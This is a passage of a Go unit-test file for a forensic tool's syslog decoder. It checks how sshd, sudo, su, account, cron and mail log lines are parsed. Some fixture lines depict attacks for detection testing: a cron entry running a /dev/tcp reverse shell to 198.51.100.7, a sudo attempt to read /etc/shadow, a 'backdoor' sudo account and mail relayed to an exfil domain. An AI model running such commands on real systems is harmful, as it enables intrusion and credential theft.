package syslog

import (
	"flag"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/kizuki-dfir/kizuki/event"
	"github.com/kizuki-dfir/kizuki/format"
	"github.com/kizuki-dfir/kizuki/format/formattest"
	"github.com/kizuki-dfir/kizuki/internal/shareddata"
)

// want lists the fields a test checks; zero values are checked too, except
// Time (checked when set) and Extra (a subset).
type want struct {
	time       string
	kind       event.Kind
	dataset    string
	action     string
	outcome    event.Outcome
	host       string
	process    string
	pid        int
	user       string
	targetUser string
	sourceIP   string
	sourcePort int
	command    string
	message    string // checked when set
	level      string
	extra      map[string]string
}

// ref2025 is the reference time of the table: lines are placed in 2025
// unless that would put them after 2025-05-20.
var ref2025 = time.Date(2025, 5, 19, 12, 0, 0, 0, time.UTC)

func decodeOne(t *testing.T, d *Decoder, line string) event.Event {
	t.Helper()
	var got event.Event
	n := 0
	d.Decode(line, event.Ref{Line: 7}, func(ev *event.Event) {
		n++
		got = *ev
		got.Extra = append([]event.KV(nil), ev.Extra...)
	})
	if n != 1 {
		t.Fatalf("%q: %d events, want 1", line, n)
	}
	if got.Ref.Line != 7 {
		t.Errorf("%q: Ref.Line = %d", line, got.Ref.Line)
	}
	if got.Raw != line {
		t.Errorf("%q: Raw = %q", line, got.Raw)
	}
	return got
}

func check(t *testing.T, line string, got event.Event, w want) {
	t.Helper()
	if w.time != "" {
		if s := got.Time.Format(time.RFC3339Nano); s != w.time {
			t.Errorf("Time = %s, want %s", s, w.time)
		}
	}
	type pair struct {
		name      string
		got, want any
	}
	for _, p := range []pair{
		{"Kind", got.Kind, w.kind}, {"Dataset", got.Dataset, w.dataset}, {"Action", got.Action, w.action},
		{"Outcome", got.Outcome, w.outcome}, {"Host", got.Host, w.host}, {"Process", got.Process, w.process},
		{"PID", got.PID, w.pid}, {"User", got.User, w.user}, {"TargetUser", got.TargetUser, w.targetUser},
		{"SourceIP", got.SourceIP, w.sourceIP}, {"SourcePort", got.SourcePort, w.sourcePort},
		{"CommandLine", got.CommandLine, w.command}, {"Level", got.Level, w.level},
	} {
		if p.got != p.want {
			t.Errorf("%s = %v, want %v", p.name, p.got, p.want)
		}
	}
	if w.message != "" && got.Message != w.message {
		t.Errorf("Message = %q, want %q", got.Message, w.message)
	}
	for k, v := range w.extra {
		if g, ok := got.Get(k); !ok || g != v {
			t.Errorf("Extra[%s] = %q (%v), want %q; all: %v", k, g, ok, v, got.Extra)
		}
	}
}

func TestDecode(t *testing.T) {
	auth, proc, mail, sys := event.KindAuth, event.KindProcess, event.KindMail, event.KindSystem
	ok, fail := event.OutcomeSuccess, event.OutcomeFailure
	tests := []struct {
		name string
		line string
		want want
	}{
		// --- framing ---
		// loghub OpenSSH_2k.log line 1 (classic RFC 3164 as rsyslog writes it).
		{"3164", "Dec 10 06:55:46 LabSZ sshd[24200]: reverse mapping checking getaddrinfo for ns.marryaldkfaczcz.com [173.234.31.186] failed - POSSIBLE BREAK-IN ATTEMPT!",
			want{time: "2024-12-10T06:55:46Z", kind: auth, dataset: "sshd", action: "ssh_reverse_mapping_failed", outcome: fail, host: "LabSZ", process: "sshd", pid: 24200,
				sourceIP: "173.234.31.186", extra: map[string]string{"source.domain": "ns.marryaldkfaczcz.com"}}},
		// fail2ban tests/files/logs/sshd (OpenSUSE, rsyslog high-precision template).
		{"rfc3339", "2015-04-16T18:02:50.568798+00:00 host sshd[2716]: Connection closed by 192.0.2.112 [preauth]",
			want{time: "2015-04-16T18:02:50.568798Z", kind: auth, dataset: "sshd", action: "ssh_connection_closed", host: "host", process: "sshd", pid: 2716,
				sourceIP: "192.0.2.112", extra: map[string]string{"ssh.preauth": "true"}}},
		// Debian 13 rsyslog default (RFC 3339 with offset) and OpenSSH 9.8+'s sshd-session.
		{"sshd-session", "2025-05-19T05:12:44.003861+02:00 web1 sshd-session[4242]: Accepted publickey for deploy from 203.0.113.9 port 51234 ssh2: ED25519 SHA256:Qm9n0b8kZL3Zrw3E8mFQyM4f2k0cN0nI2mHnTq1p7Xk",
			want{time: "2025-05-19T03:12:44.003861Z", kind: auth, dataset: "sshd", action: "ssh_login", outcome: ok, host: "web1", process: "sshd-session", pid: 4242,
				user: "deploy", sourceIP: "203.0.113.9", sourcePort: 51234,
				extra: map[string]string{"auth.method": "publickey", "ssh.key": "ED25519 SHA256:Qm9n0b8kZL3Zrw3E8mFQyM4f2k0cN0nI2mHnTq1p7Xk"}}},
		// fail2ban tests/files/logs/sshd: unpadded day, as some syslogds write it.
		{"unpadded day", "Feb 7 16:01:07 linux-m899 sshd[5106]: User root from 192.51.100.54 not allowed because a group is listed in DenyGroups",
			want{time: "2025-02-07T16:01:07Z", kind: auth, dataset: "sshd", action: "ssh_user_not_allowed", outcome: fail, host: "linux-m899", process: "sshd", pid: 5106,
				user: "root", sourceIP: "192.51.100.54", extra: map[string]string{"event.reason": "a group is listed in DenyGroups"}}},
		// fail2ban tests/files/logs/sshd: no hostname between stamp and tag.
		{"no host", "Nov 23 21:50:37 sshd[8148]: Connection closed by 61.0.0.1 [preauth]",
			want{time: "2024-11-23T21:50:37Z", kind: auth, dataset: "sshd", action: "ssh_connection_closed", process: "sshd", pid: 8148, sourceIP: "61.0.0.1"}},
		// RFC 5424 section 6.5, example 3 (structured data, no message).
		{"5424 sd", `<165>1 2003-10-11T22:14:15.003Z mymachine.example.com evntslog - ID47 [exampleSDID@32473 iut="3" eventSource="Application" eventID="1011"] An application event log entry...`,
			want{time: "2003-10-11T22:14:15.003Z", kind: sys, dataset: "evntslog", host: "mymachine.example.com", process: "evntslog", level: "notice",
				message: "An application event log entry...",
				extra:   map[string]string{"log.syslog.facility.name": "local4", "log.syslog.msgid": "ID47", "syslog.sd.exampleSDID@32473.eventSource": "Application"}}},
		// RFC 5424 section 6.5, example 1 (BOM before the message).
		{"5424", "<34>1 2003-10-11T22:14:15.003Z mymachine.example.com su - ID47 - \xef\xbb\xbf'su root' failed for lonvick on /dev/pts/8",
			want{time: "2003-10-11T22:14:15.003Z", kind: sys, dataset: "su", host: "mymachine.example.com", process: "su", level: "crit",
				message: "'su root' failed for lonvick on /dev/pts/8", extra: map[string]string{"log.syslog.facility.name": "auth"}}},
		// rsyslog forwarding an sshd line as RFC 5424 (escaped quote in SD).
		{"5424 sshd", `<38>1 2025-05-19T03:12:44.003Z bastion sshd 1234 - [origin ip="10.0.0.5" note="a \"b\""] Failed password for root from 198.51.100.7 port 40022 ssh2`,
			want{time: "2025-05-19T03:12:44.003Z", kind: auth, dataset: "sshd", action: "ssh_login", outcome: fail, host: "bastion", process: "sshd", pid: 1234, level: "info",
				user: "root", sourceIP: "198.51.100.7", sourcePort: 40022, extra: map[string]string{"syslog.sd.origin.note": `a "b"`}}},
		// <PRI> in front of an RFC 3164 line, as logged by some network syslog receivers.
		{"3164 pri", "<86>May 19 03:12:44 web1 sudo[1999]: pam_unix(sudo:session): session closed for user root",
			want{time: "2025-05-19T03:12:44Z", kind: auth, dataset: "sudo", action: "session_closed", outcome: ok, host: "web1", process: "sudo", pid: 1999, user: "root", level: "info",
				extra: map[string]string{"log.syslog.facility.name": "authpriv", "pam.type": "session"}}},
		// loghub Linux_2k.log: "syslogd 1.4.1: restart." has no well-formed tag.
		{"untagged", "Jun 19 04:09:11 combo syslogd 1.4.1: restart.",
			want{kind: sys, dataset: "syslog", host: "combo", message: "syslogd 1.4.1: restart."}},
		// After logrotate copytruncate the first line can start with NUL padding.
		{"nul padding", "\x00\x00\x00May 19 03:12:44 web1 CRON[3456]: (root) CMD (id)",
			want{time: "2025-05-19T03:12:44Z", kind: proc, dataset: "cron", action: "cron_exec", host: "web1", process: "CRON", pid: 3456, user: "root", command: "id"}},
		// loghub Linux_2k.log, CRLF line end.
		{"crlf", "Jun 14 15:16:02 combo sshd(pam_unix)[19937]: check pass; user unknown\r",
			want{kind: auth, dataset: "sshd", action: "pam_auth", outcome: fail, host: "combo", process: "sshd", pid: 19937,
				message: "check pass; user unknown", extra: map[string]string{"pam.module": "pam_unix", "user.invalid": "true"}}},

		// --- sshd (loghub OpenSSH_2k.log unless noted) ---
		{"ssh invalid user", "Dec 10 06:55:46 LabSZ sshd[24200]: Invalid user webmaster from 173.234.31.186",
			want{kind: auth, dataset: "sshd", action: "ssh_invalid_user", outcome: fail, host: "LabSZ", process: "sshd", pid: 24200, user: "webmaster", sourceIP: "173.234.31.186",
				extra: map[string]string{"user.invalid": "true"}}},
		{"ssh userauth invalid", "Dec 10 06:55:46 LabSZ sshd[24200]: input_userauth_request: invalid user webmaster [preauth]",
			want{kind: auth, dataset: "sshd", action: "ssh_invalid_user", outcome: fail, host: "LabSZ", process: "sshd", pid: 24200, user: "webmaster"}},
		{"ssh failed invalid", "Dec 10 06:55:48 LabSZ sshd[24200]: Failed password for invalid user webmaster from 173.234.31.186 port 38926 ssh2",
			want{kind: auth, dataset: "sshd", action: "ssh_login", outcome: fail, host: "LabSZ", process: "sshd", pid: 24200, user: "webmaster", sourceIP: "173.234.31.186", sourcePort: 38926,
				extra: map[string]string{"user.invalid": "true", "auth.method": "password"}}},
		{"ssh accepted", "Dec 10 09:32:20 LabSZ sshd[24680]: Accepted password for fztu from 119.137.62.142 port 49116 ssh2",
			want{kind: auth, dataset: "sshd", action: "ssh_login", outcome: ok, host: "LabSZ", process: "sshd", pid: 24680, user: "fztu", sourceIP: "119.137.62.142", sourcePort: 49116,
				extra: map[string]string{"auth.method": "password"}}},
		{"ssh repeated", "Dec 10 07:13:56 LabSZ sshd[24227]: message repeated 5 times: [ Failed password for root from 5.36.59.76 port 42393 ssh2]",
			want{kind: auth, dataset: "sshd", action: "ssh_login", outcome: fail, host: "LabSZ", process: "sshd", pid: 24227, user: "root", sourceIP: "5.36.59.76", sourcePort: 42393,
				extra: map[string]string{"syslog.repeated": "5"}}},
		{"ssh pam failure", "Dec 10 06:55:46 LabSZ sshd[24200]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=173.234.31.186 ",
			want{kind: auth, dataset: "sshd", action: "pam_auth", outcome: fail, host: "LabSZ", process: "sshd", pid: 24200, sourceIP: "173.234.31.186",
				extra: map[string]string{"pam.module": "pam_unix", "pam.service": "sshd", "pam.type": "auth", "pam.tty": "ssh"}}},
		{"ssh pam more", "Dec 10 07:13:56 LabSZ sshd[24227]: PAM 5 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=5.36.59.76.dynamic-dsl-ip.omantel.net.om  user=root",
			want{kind: auth, dataset: "sshd", action: "pam_auth", outcome: fail, host: "LabSZ", process: "sshd", pid: 24227, user: "root",
				extra: map[string]string{"auth.failures": "5", "source.domain": "5.36.59.76.dynamic-dsl-ip.omantel.net.om"}}},
		{"ssh received disconnect", "Dec 10 07:07:45 LabSZ sshd[24206]: Received disconnect from 52.80.34.196: 11: Bye Bye [preauth]",
			want{kind: auth, dataset: "sshd", action: "ssh_disconnect", host: "LabSZ", process: "sshd", pid: 24206, sourceIP: "52.80.34.196",
				extra: map[string]string{"event.reason": "11: Bye Bye", "ssh.preauth": "true"}}},
		{"ssh too many", "Dec 10 07:13:56 LabSZ sshd[24227]: Disconnecting: Too many authentication failures for root [preauth]",
			want{kind: auth, dataset: "sshd", action: "ssh_max_auth_exceeded", outcome: fail, host: "LabSZ", process: "sshd", pid: 24227, user: "root"}},
		{"ssh no ident", "Dec 10 07:51:15 LabSZ sshd[24324]: Did not receive identification string from 195.154.37.122",
			want{kind: auth, dataset: "sshd", action: "ssh_no_identification", outcome: fail, host: "LabSZ", process: "sshd", pid: 24324, sourceIP: "195.154.37.122"}},
		{"ssh session opened", "Dec 10 09:32:20 LabSZ sshd[24680]: pam_unix(sshd:session): session opened for user fztu by (uid=0)",
			want{kind: auth, dataset: "sshd", action: "session_opened", outcome: ok, host: "LabSZ", process: "sshd", pid: 24680, user: "fztu"}},
		// fail2ban tests/files/logs/sshd, below.
		{"ssh max attempts", "Nov 23 21:50:37 myhost sshd[21810]: error: maximum authentication attempts exceeded for root from 61.0.0.1 port 49940 ssh2 [preauth]",
			want{kind: auth, dataset: "sshd", action: "ssh_max_auth_exceeded", outcome: fail, host: "myhost", process: "sshd", pid: 21810, user: "root", sourceIP: "61.0.0.1", sourcePort: 49940}},
		{"ssh closed by user", "Jul 17 23:03:05 srv sshd[1296]: Connection closed by authenticating user root 192.0.2.10 port 46038 [preauth]",
			want{kind: auth, dataset: "sshd", action: "ssh_connection_closed", host: "srv", process: "sshd", pid: 1296, user: "root", sourceIP: "192.0.2.10", sourcePort: 46038}},
		{"ssh inject user", "Jul 17 23:04:01 srv sshd[1300]: Connection closed by authenticating user test 127.0.0.1 port 12345 192.0.2.11 port 46039 [preauth]",
			want{kind: auth, dataset: "sshd", action: "ssh_connection_closed", host: "srv", process: "sshd", pid: 1300, user: "test 127.0.0.1 port 12345", sourceIP: "192.0.2.11", sourcePort: 46039}},
		{"ssh inject from in user", "Nov 11 08:04:52 redbamboo sshd[2737]: Failed password for invalid user test from 10.10.1.2 port 55555 ssh2 from 127.0.0.1 port 58946 ssh2",
			want{kind: auth, dataset: "sshd", action: "ssh_login", outcome: fail, host: "redbamboo", process: "sshd", pid: 2737, user: "test from 10.10.1.2 port 55555 ssh2", sourceIP: "127.0.0.1", sourcePort: 58946}},
		{"ssh inject auth info", "Nov 11 08:04:52 redbamboo sshd[2737]: Failed password for invalid user test from 127.0.0.1 port 58946 ssh2: from 10.10.1.2 port 55555 ssh2",
			want{kind: auth, dataset: "sshd", action: "ssh_login", outcome: fail, host: "redbamboo", process: "sshd", pid: 2737, user: "test", sourceIP: "127.0.0.1", sourcePort: 58946}},
		{"ssh ipv6", "Feb 25 14:34:10 belka sshd[31603]: Failed password for invalid user ROOT from aaaa:bbbb:cccc:1234::1:1 port 50273 ssh2",
			want{kind: auth, dataset: "sshd", action: "ssh_login", outcome: fail, host: "belka", process: "sshd", pid: 31603, user: "ROOT", sourceIP: "aaaa:bbbb:cccc:1234::1:1", sourcePort: 50273}},
		{"ssh empty user", "Jun  6 04:17:09 host sshd[1189074]: Connection closed by invalid user  192.0.2.68 port 34916 [preauth]",
			want{kind: auth, dataset: "sshd", action: "ssh_connection_closed", host: "host", process: "sshd", pid: 1189074, sourceIP: "192.0.2.68", sourcePort: 34916,
				extra: map[string]string{"user.invalid": "true"}}},
		{"ssh disconnect port colon", "Nov 25 01:35:14 srv sshd[3625]: error: Received disconnect from 192.168.2.92 port 1684:14: No supported authentication methods available [preauth]",
			want{kind: auth, dataset: "sshd", action: "ssh_disconnect", host: "srv", process: "sshd", pid: 3625, sourceIP: "192.168.2.92", sourcePort: 1684,
				extra: map[string]string{"event.reason": "14: No supported authentication methods available"}}},
		{"ssh negotiate", "Nov 26 13:03:29 srv sshd[45]: Unable to negotiate with 192.0.2.1 port 55419: no matching cipher found. Their offer: aes256-cbc [preauth]",
			want{kind: auth, dataset: "sshd", action: "ssh_negotiation_failed", outcome: fail, host: "srv", process: "sshd", pid: 45, sourceIP: "192.0.2.1", sourcePort: 55419}},
		{"ssh pam error", "May 29 20:56:56 imago sshd[28732]: error: PAM: Authentication failure for test-ipv6 from 2606:2800:220:1:248:1893:25c8:1946",
			want{kind: auth, dataset: "sshd", action: "pam_auth", outcome: fail, host: "imago", process: "sshd", pid: 28732, user: "test-ipv6", sourceIP: "2606:2800:220:1:248:1893:25c8:1946"}},
		{"ssh bad version", "Jun 7 01:11:58 host sshd[8783]: Bad protocol version identification 'dummy string' from 192.0.2.1' from 69.61.56.115 port 31778",
			want{kind: auth, dataset: "sshd", action: "ssh_bad_banner", outcome: fail, host: "host", process: "sshd", pid: 8783, sourceIP: "69.61.56.115", sourcePort: 31778}},
		{"ssh connection from", "Feb 12 04:09:18 localhost sshd[26713]: Connection from 115.249.163.77 port 51353 on 127.0.0.1 port 22",
			want{kind: auth, dataset: "sshd", action: "ssh_connection", host: "localhost", process: "sshd", pid: 26713, sourceIP: "115.249.163.77", sourcePort: 51353}},

		// OpenSSH 9.8 on Debian 13.
		{"ssh penalty", "2025-08-20T10:00:01.000000+00:00 web1 sshd[880]: drop connection #0 from [203.0.113.77]:41122 on [192.0.2.10]:22 penalty: failed authentication",
			want{kind: auth, dataset: "sshd", action: "ssh_connection_dropped", outcome: fail, host: "web1", process: "sshd", pid: 880, sourceIP: "203.0.113.77", sourcePort: 41122,
				extra: map[string]string{"event.reason": "failed authentication"}}},
		{"ssh timeout 9", "2025-08-20T10:00:02.000000+00:00 web1 sshd-session[881]: fatal: Timeout before authentication for connection from 203.0.113.78 to 192.0.2.10, pid = 881",
			want{kind: auth, dataset: "sshd", action: "ssh_auth_timeout", outcome: fail, host: "web1", process: "sshd-session", pid: 881, sourceIP: "203.0.113.78"}},

		// --- sudo: Debian 12 auth.log as written by sudo 1.9.13 ---
		{"sudo", "May 19 03:12:44 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/bash -c 'id ; whoami'",
			want{kind: auth, dataset: "sudo", action: "sudo", outcome: ok, host: "web1", process: "sudo", user: "alice", targetUser: "root", command: "/usr/bin/bash -c 'id ; whoami'",
				extra: map[string]string{"process.working_directory": "/home/alice", "process.tty": "pts/0"}}},
		{"sudo failed", "May 19 03:12:50 web1 sudo:    alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow",
			want{kind: auth, dataset: "sudo", action: "sudo", outcome: fail, host: "web1", process: "sudo", user: "alice", targetUser: "root", command: "/usr/bin/cat /etc/shadow",
				extra: map[string]string{"auth.failures": "3", "event.reason": "3 incorrect password attempts"}}},
		{"sudo not in sudoers", "May 19 03:13:01 web1 sudo:      www-data : user NOT in sudoers ; TTY=unknown ; PWD=/var/www/html ; USER=root ; COMMAND=/bin/sh",
			want{kind: auth, dataset: "sudo", action: "sudo", outcome: fail, host: "web1", process: "sudo", user: "www-data", targetUser: "root", command: "/bin/sh",
				extra: map[string]string{"event.reason": "user NOT in sudoers"}}},
		{"sudo session", "May 19 03:12:44 web1 sudo[2210]: pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)",
			want{kind: auth, dataset: "sudo", action: "session_opened", outcome: ok, host: "web1", process: "sudo", pid: 2210, user: "alice", targetUser: "root"}},
		{"sudo pam auth", "May 19 03:12:47 web1 sudo[2210]: pam_unix(sudo:auth): authentication failure; logname=alice uid=1000 euid=0 tty=/dev/pts/0 ruser=alice rhost=  user=alice",
			want{kind: auth, dataset: "sudo", action: "pam_auth", outcome: fail, host: "web1", process: "sudo", pid: 2210, user: "alice",
				extra: map[string]string{"pam.ruser": "alice", "pam.logname": "alice"}}},

		// --- su: shadow-utils (RHEL 7 secure) and util-linux (Debian) ---
		{"su ok", "May 19 03:14:02 web1 su[3001]: Successful su for root by alice",
			want{kind: auth, dataset: "su", action: "su", outcome: ok, host: "web1", process: "su", pid: 3001, user: "alice", targetUser: "root"}},
		{"su failed", "May 19 03:14:00 web1 su[3000]: FAILED su for root by alice",
			want{kind: auth, dataset: "su", action: "su", outcome: fail, host: "web1", process: "su", pid: 3000, user: "alice", targetUser: "root"}},
		{"su to", "May 19 03:14:02 web1 su[3001]: (to root) alice on pts/1",
			want{kind: auth, dataset: "su", action: "su", outcome: ok, host: "web1", process: "su", pid: 3001, user: "alice", targetUser: "root", extra: map[string]string{"process.tty": "pts/1"}}},
		{"su plus", "May 19 03:14:02 web1 su[3001]: + pts/1 alice:root",
			want{kind: auth, dataset: "su", action: "su", outcome: ok, host: "web1", process: "su", pid: 3001, user: "alice", targetUser: "root"}},
		{"su session", "May 19 03:14:02 web1 su[3001]: pam_unix(su-l:session): session opened for user root(uid=0) by alice(uid=1000)",
			want{kind: auth, dataset: "su", action: "session_opened", outcome: ok, host: "web1", process: "su", pid: 3001, user: "alice", targetUser: "root",
				extra: map[string]string{"pam.service": "su-l"}}},
		// loghub Linux_2k.log.
		{"su pam old", "Jun 15 04:06:18 combo su(pam_unix)[21416]: session opened for user cyrus by (uid=0)",
			want{kind: auth, dataset: "su", action: "session_opened", outcome: ok, host: "combo", process: "su", pid: 21416, user: "cyrus"}},

		// --- accounts: Debian 12 shadow-utils 4.13 ---
		{"useradd", "May 19 03:20:11 web1 useradd[3100]: new user: name=backdoor, UID=1002, GID=1002, home=/home/backdoor, shell=/bin/bash, from=/dev/pts/1",
			want{kind: auth, dataset: "useradd", action: "user_created", outcome: ok, host: "web1", process: "useradd", pid: 3100, targetUser: "backdoor",
				extra: map[string]string{"user.target.id": "1002", "group.id": "1002", "user.home": "/home/backdoor", "user.shell": "/bin/bash"}}},
		{"groupadd", "May 19 03:20:11 web1 groupadd[3099]: new group: name=backdoor, GID=1002",
			want{kind: auth, dataset: "groupadd", action: "group_created", outcome: ok, host: "web1", process: "groupadd", pid: 3099, extra: map[string]string{"group.name": "backdoor", "group.id": "1002"}}},
		{"usermod", "May 19 03:20:30 web1 usermod[3120]: add 'backdoor' to group 'sudo'",
			want{kind: auth, dataset: "usermod", action: "group_member_added", outcome: ok, host: "web1", process: "usermod", pid: 3120, targetUser: "backdoor", extra: map[string]string{"group.name": "sudo"}}},
		{"usermod shadow", "May 19 03:20:30 web1 usermod[3120]: add 'backdoor' to shadow group 'sudo'",
			want{kind: auth, dataset: "usermod", action: "group_member_added", outcome: ok, host: "web1", process: "usermod", pid: 3120, targetUser: "backdoor", extra: map[string]string{"group.name": "sudo"}}},
		{"gpasswd", "May 19 03:20:31 web1 gpasswd[3121]: user backdoor added by root to group docker",
			want{kind: auth, dataset: "gpasswd", action: "group_member_added", outcome: ok, host: "web1", process: "gpasswd", pid: 3121, user: "root", targetUser: "backdoor", extra: map[string]string{"group.name": "docker"}}},
		{"passwd", "May 19 03:20:40 web1 passwd[3130]: pam_unix(passwd:chauthtok): password changed for backdoor",
			want{kind: auth, dataset: "passwd", action: "password_changed", outcome: ok, host: "web1", process: "passwd", pid: 3130, targetUser: "backdoor"}},
		{"chpasswd", "May 19 03:20:41 web1 chpasswd[3131]: pam_unix(chpasswd:chauthtok): password changed for root",
			want{kind: auth, dataset: "chpasswd", action: "password_changed", outcome: ok, host: "web1", process: "chpasswd", pid: 3131, targetUser: "root"}},
		{"userdel", "May 19 04:00:00 web1 userdel[3300]: delete user 'backdoor'",
			want{kind: auth, dataset: "userdel", action: "user_deleted", outcome: ok, host: "web1", process: "userdel", pid: 3300, targetUser: "backdoor"}},

		// --- systemd-logind (Debian 12) ---
		{"logind new", "May 19 03:12:44 web1 systemd-logind[512]: New session 3 of user alice.",
			want{kind: auth, dataset: "systemd-logind", action: "session_opened", outcome: ok, host: "web1", process: "systemd-logind", pid: 512, user: "alice", extra: map[string]string{"session.id": "3"}}},
		{"logind removed", "May 19 03:40:02 web1 systemd-logind[512]: Removed session 3.",
			want{kind: auth, dataset: "systemd-logind", action: "session_closed", outcome: ok, host: "web1", process: "systemd-logind", pid: 512, extra: map[string]string{"session.id": "3"}}},

		// --- cron (Debian CRON, cron 3.0pl1) ---
		{"cron", "May 19 03:17:01 web1 CRON[3456]: (root) CMD (cd / && run-parts --report /etc/cron.hourly)",
			want{kind: proc, dataset: "cron", action: "cron_exec", host: "web1", process: "CRON", pid: 3456, user: "root", command: "cd / && run-parts --report /etc/cron.hourly"}},
		{"cron nested parens", "May 19 03:18:01 web1 CRON[3460]: (www-data) CMD (/bin/bash -c 'sh -i >& /dev/tcp/198.51.100.7/4444 0>&1' (x))",
			want{kind: proc, dataset: "cron", action: "cron_exec", host: "web1", process: "CRON", pid: 3460, user: "www-data", command: "/bin/bash -c 'sh -i >& /dev/tcp/198.51.100.7/4444 0>&1' (x)"}},
		{"crontab", "May 19 03:16:40 web1 crontab[3440]: (www-data) REPLACE (www-data)",
			want{kind: auth, dataset: "crontab", action: "crontab_replaced", outcome: ok, host: "web1", process: "crontab", pid: 3440, user: "www-data", targetUser: "www-data"}},

		// --- postfix: fail2ban tests/files/logs/postfix-sasl and postfix's own docs ---
		{"postfix sasl fail", "Sep  6 00:44:56 trianon postfix/submission/smtpd[11538]: warning: unknown[82.221.106.233]: SASL LOGIN authentication failed: UGFzc3dvcmQ6",
			want{kind: auth, dataset: "postfix", action: "mail_login", outcome: fail, host: "trianon", process: "postfix/submission/smtpd", pid: 11538, sourceIP: "82.221.106.233",
				extra: map[string]string{"auth.method": "LOGIN", "event.reason": "UGFzc3dvcmQ6"}}},
		{"postfix sasl named", "Dec  2 22:24:22 hel postfix/smtpd[7676]: warning: 114-44-142-233.dynamic.hinet.net[114.44.142.233]: SASL CRAM-MD5 authentication failed: PDc3OTEwNTkyNTEyMzA2NDIuMTIyODI1MzA2MUBoZWw+",
			want{kind: auth, dataset: "postfix", action: "mail_login", outcome: fail, host: "hel", process: "postfix/smtpd", pid: 7676, sourceIP: "114.44.142.233",
				extra: map[string]string{"auth.method": "CRAM-MD5", "source.domain": "114-44-142-233.dynamic.hinet.net"}}},
		{"postfix connect", "May 19 03:30:00 mx1 postfix/smtpd[4100]: connect from unknown[198.51.100.23]",
			want{kind: mail, dataset: "postfix", action: "mail_connect", host: "mx1", process: "postfix/smtpd", pid: 4100, sourceIP: "198.51.100.23"}},
		{"postfix client sasl", "May 19 03:30:02 mx1 postfix/smtpd[4100]: 4BV1Zr0Yz5z9sWm: client=unknown[198.51.100.23], sasl_method=LOGIN, sasl_username=alice@example.com",
			want{kind: auth, dataset: "postfix", action: "mail_login", outcome: ok, host: "mx1", process: "postfix/smtpd", pid: 4100, user: "alice@example.com", sourceIP: "198.51.100.23",
				extra: map[string]string{"mail.queue_id": "4BV1Zr0Yz5z9sWm", "auth.method": "LOGIN"}}},
		{"postfix qmgr", "May 19 03:30:02 mx1 postfix/qmgr[900]: 4BV1Zr0Yz5z9sWm: from=<alice@example.com>, size=48213, nrcpt=1 (queue active)",
			want{kind: mail, dataset: "postfix", action: "mail_queued", host: "mx1", process: "postfix/qmgr", pid: 900,
				extra: map[string]string{"mail.queue_id": "4BV1Zr0Yz5z9sWm", "email.from.address": "alice@example.com", "email.size": "48213", "email.recipients": "1"}}},
		{"postfix smtp sent", "May 19 03:30:03 mx1 postfix/smtp[4102]: 4BV1Zr0Yz5z9sWm: to=<drop@exfil.example.net>, relay=mx.exfil.example.net[203.0.113.80]:25, delay=1.2, delays=0.1/0/0.6/0.5, dsn=2.0.0, status=sent (250 2.0.0 Ok: queued as 7F2A1, thanks)",
			want{kind: mail, dataset: "postfix", action: "mail_sent", outcome: ok, host: "mx1", process: "postfix/smtp", pid: 4102,
				extra: map[string]string{"email.to.address": "drop@exfil.example.net", "mail.relay": "mx.exfil.example.net[203.0.113.80]:25", "mail.status": "sent",
					"event.reason": "250 2.0.0 Ok: queued as 7F2A1, thanks"}}},
		{"postfix reject", "May 19 03:31:00 mx1 postfix/smtpd[4105]: NOQUEUE: reject: RCPT from unknown[198.51.100.99]: 554 5.7.1 <x@example.org>: Relay access denied; from=<spam@example.biz> to=<x@example.org> proto=ESMTP helo=<WIN-1>",
			want{kind: mail, dataset: "postfix", action: "mail_rejected", outcome: fail, host: "mx1", process: "postfix/smtpd", pid: 4105, sourceIP: "198.51.100.99",
				extra: map[string]string{"email.from.address": "spam@example.biz", "email.to.address": "x@example.org", "mail.helo": "WIN-1", "event.reason": "554 5.7.1 <x@example.org>: Relay access denied"}}},

		// --- dovecot: fail2ban tests/files/logs/dovecot and Debian 12 dovecot 2.3 ---
		{"dovecot login", "May 19 03:40:00 mx1 dovecot: imap-login: Login: user=<alice@example.com>, method=PLAIN, rip=198.51.100.23, lip=192.0.2.10, mpid=5120, TLS, session=<q8Hc5Wq0TuLGM2QX>",
			want{kind: auth, dataset: "dovecot", action: "mail_login", outcome: ok, host: "mx1", process: "dovecot", user: "alice@example.com", sourceIP: "198.51.100.23",
				extra: map[string]string{"auth.method": "PLAIN", "destination.ip": "192.0.2.10", "network.protocol": "imap", "session.id": "q8Hc5Wq0TuLGM2QX"}}},
		{"dovecot failed", "Jun 13 16:30:54 platypus dovecot: imap-login: Disconnected (auth failed, 2 attempts): user=<username.bob>, method=PLAIN, rip=49.176.98.87, lip=113.212.99.194, TLS",
			want{kind: auth, dataset: "dovecot", action: "mail_login", outcome: fail, host: "platypus", process: "dovecot", user: "username.bob", sourceIP: "49.176.98.87",
				extra: map[string]string{"event.reason": "auth failed, 2 attempts"}}},
		{"dovecot aborted", "Jul 02 13:49:31 hostname dovecot[442]: pop3-login: Aborted login (auth failed, 1 attempts in 17 secs): user=<test>, method=PLAIN, rip=192.51.100.13, lip=203.0.113.17, session=<YADINsQCDs5BH8Pg>",
			want{kind: auth, dataset: "dovecot", action: "mail_login", outcome: fail, host: "hostname", process: "dovecot", pid: 442, user: "test", sourceIP: "192.51.100.13",
				extra: map[string]string{"network.protocol": "pop3"}}},
		{"dovecot 2.3 failed", "May 19 03:41:00 mx1 dovecot: imap-login: Disconnected: Connection closed (auth failed, 3 attempts in 15 secs): user=<admin>, method=PLAIN, rip=203.0.113.50, lip=192.0.2.10, TLS, session=<AbCdEf>",
			want{kind: auth, dataset: "dovecot", action: "mail_login", outcome: fail, host: "mx1", process: "dovecot", user: "admin", sourceIP: "203.0.113.50"}},
		{"dovecot pam", "Apr 19 05:22:20 vm5 dovecot: auth: pam_unix(dovecot:auth): authentication failure; logname= uid=0 euid=0 tty=dovecot ruser=informix rhost=80.255.3.104",
			want{kind: auth, dataset: "dovecot", action: "pam_auth", outcome: fail, host: "vm5", process: "dovecot", sourceIP: "80.255.3.104", extra: map[string]string{"pam.ruser": "informix"}}},
		{"dovecot worker", "May 19 03:41:00 mx1 dovecot: auth-worker(5001): pam(admin,203.0.113.50,<AbCdEf>): unknown user",
